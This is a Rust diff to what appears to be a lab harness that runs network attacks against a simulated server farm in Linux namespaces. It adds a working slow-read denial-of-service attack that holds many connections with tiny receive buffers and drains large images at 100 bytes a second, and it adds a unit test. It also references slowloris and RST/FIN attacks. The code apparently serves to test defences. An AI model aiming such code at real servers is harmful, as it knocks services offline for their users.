@@ -47,6 +47,11 @@ pub enum AttackKind {
     /// (read with `ss` in the clients' namespace each second), in turn from the client's address
     /// and from the farm's.
     RstFin,
+    /// Real connections to the farm from [`SLOW_READ_ADDR`] (added to the clients' interface),
+    /// each with a receive buffer of [`SLOW_READ_RCVBUF`] bytes, asking for a 256 KB cover and
+    /// reading [`SLOW_READ_BYTES_PER_S`] bytes of it a second; one the farm closes is opened
+    /// again.
+    SlowRead,
 }
 
 /// An attack of an arm.
@@ -97,6 +102,11 @@ pub const SLOWLORIS_PIECE: usize = 256;
 /// The address the mid-stream and slowloris connections go to: on the farm's segment, owned by
 /// nobody, so that nothing answers them and what rlm holds is the attacker's alone.
 pub const SILENT_ADDR: Ipv4Addr = Ipv4Addr::new(10, 9, 0, 99);
+/// The slow readers' address (outside the browsers' groups: the WAN passes it undelayed), their
+/// receive buffer and how fast each reads.
+pub const SLOW_READ_ADDR: Ipv4Addr = Ipv4Addr::new(10, 8, 255, 1);
+pub const SLOW_READ_RCVBUF: usize = 4096;
+pub const SLOW_READ_BYTES_PER_S: usize = 100;
 /// The payload of a mid-stream segment: at most this many bytes.
 const SEGMENT: usize = 1400;
 
@@ -213,6 +223,12 @@ pub fn start(attack: Attack, info: &Info, ramp_s: f64, duration_s: f64) -> std::
     let info = info.clone();
     let t0 = Instant::now();
     std::thread::spawn(move || {
+        if attack.kind == AttackKind::SlowRead {
+            crate::netns::enter(&info.namespaces.clients)?;
+            crate::topology::in_ns(&info.namespaces.clients, "ip", &["addr", "add", &format!("{SLOW_READ_ADDR}/8"), "dev", &info.clients.interface])?;
+            std::thread::sleep(Duration::from_secs_f64(ramp_s));
+            return slow_read(&attack, t0 + Duration::from_secs_f64(duration_s), (duration_s - ramp_s).max(0.0));
+        }
         let wire =
             Wire { client_mac: mac_of(&info.namespaces.clients, &info.clients.interface)?, farm_mac: mac_of(&info.namespaces.servers, "srv0")? };
         let browsing: Vec<Ipv4Addr> = info.clients.high.iter().filter_map(|a| a.parse().ok()).collect();
@@ -222,6 +238,69 @@ pub fn start(attack: Attack, info: &Info, ramp_s: f64, duration_s: f64) -> std::
         let planned_seconds = (duration_s - ramp_s).max(0.0);
         run(&attack, wire, &browsing, &out, until, planned_seconds, &info.namespaces.clients)
     })
+}
+
+/// The request of the `n`-th slow reader: one of the site's 256 KB covers.
+pub fn slow_read_request(n: u64) -> String {
+    format!("GET {} HTTP/1.1\r\nHost: shop\r\n\r\n", crate::farm::site::large_url(n as i64))
+}
+
+/// A slow reader's connection: opened from [`SLOW_READ_ADDR`] with a small receive buffer, its
+/// request sent, non-blocking.
+fn slow_reader(n: u64) -> Result<std::net::TcpStream> {
+    use std::io::Write;
+    let s = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None)?;
+    s.set_recv_buffer_size(SLOW_READ_RCVBUF)?;
+    s.bind(&SocketAddrV4::new(SLOW_READ_ADDR, 0).into())?;
+    s.connect_timeout(&SocketAddrV4::new(farm(), 80).into(), Duration::from_secs(3))?;
+    let mut s: std::net::TcpStream = s.into();
+    s.write_all(slow_read_request(n).as_bytes())?;
+    s.set_nonblocking(true)?;
+    Ok(s)
+}
+
+/// Keep `a.connections` slow readers open until `until`, each reading
+/// [`SLOW_READ_BYTES_PER_S`] a second (a tenth every 100 ms). Frames here are requests sent.
+fn slow_read(a: &Attack, until: Instant, planned_seconds: f64) -> Result<AttackOutcome> {
+    use std::io::Read;
+    let mut o = AttackOutcome { kind: Some(a.kind), start_unix_s: unix_now(), planned_seconds, ..AttackOutcome::default() };
+    let started = Instant::now();
+    let mut readers: Vec<Option<std::net::TcpStream>> = (0..a.connections).map(|_| None).collect();
+    let mut opened = 0u64;
+    let mut buf = [0u8; SLOW_READ_BYTES_PER_S / 10];
+    while Instant::now() < until {
+        let tick = Instant::now() + Duration::from_millis(100);
+        for r in readers.iter_mut() {
+            if r.is_none() {
+                match slow_reader(opened) {
+                    Ok(s) => {
+                        *r = Some(s);
+                        o.frames_sent += 1;
+                    }
+                    Err(_) => o.frames_failed += 1,
+                }
+                opened += 1;
+            }
+            if let Some(s) = r {
+                match s.read(&mut buf) {
+                    Ok(0) => *r = None,
+                    Ok(_) => {}
+                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+                    Err(_) => *r = None,
+                }
+            }
+            if Instant::now() >= until {
+                break;
+            }
+        }
+        std::thread::sleep(tick.saturating_duration_since(Instant::now()));
+    }
+    o.connections = opened;
+    o.end_unix_s = unix_now();
+    o.seconds = started.elapsed().as_secs_f64();
+    o.rate_per_s = o.frames_sent as f64 / o.seconds.max(1e-9);
+    o.planned_frames = u64::from(a.connections);
+    Ok(o)
 }
 
 fn unix_now() -> f64 {
@@ -323,6 +402,7 @@ fn run(a: &Attack, w: Wire, browsing: &[Ipv4Addr], out: &RawSender, until: Insta
             }
             o.connections = seen.len() as u64;
         }
+        AttackKind::SlowRead => unreachable!("slow-read sends no raw frames"),
     }
     o.end_unix_s = unix_now();
     o.seconds = started.elapsed().as_secs_f64();
@@ -433,6 +513,14 @@ mod tests {
         assert!(h.starts_with(b"GET / HTTP/1.1\r\n"));
         assert!(!h.windows(4).any(|w| w == b"\r\n\r\n"), "no blank line ends it");
         assert_eq!(SLOWLORIS_HEAD.div_ceil(SLOWLORIS_PIECE), 28);
+    }
+
+    #[test]
+    fn slow_readers_ask_for_a_cover() {
+        let r = slow_read_request(7);
+        assert!(r.starts_with("GET /img/large/") && r.ends_with(" HTTP/1.1\r\nHost: shop\r\n\r\n"), "{r}");
+        assert_ne!(slow_read_request(1), slow_read_request(2));
+        assert_eq!(SLOW_READ_ADDR.octets()[..2], [10, 8], "outside the browsers' groups");
     }
 
     #[test]
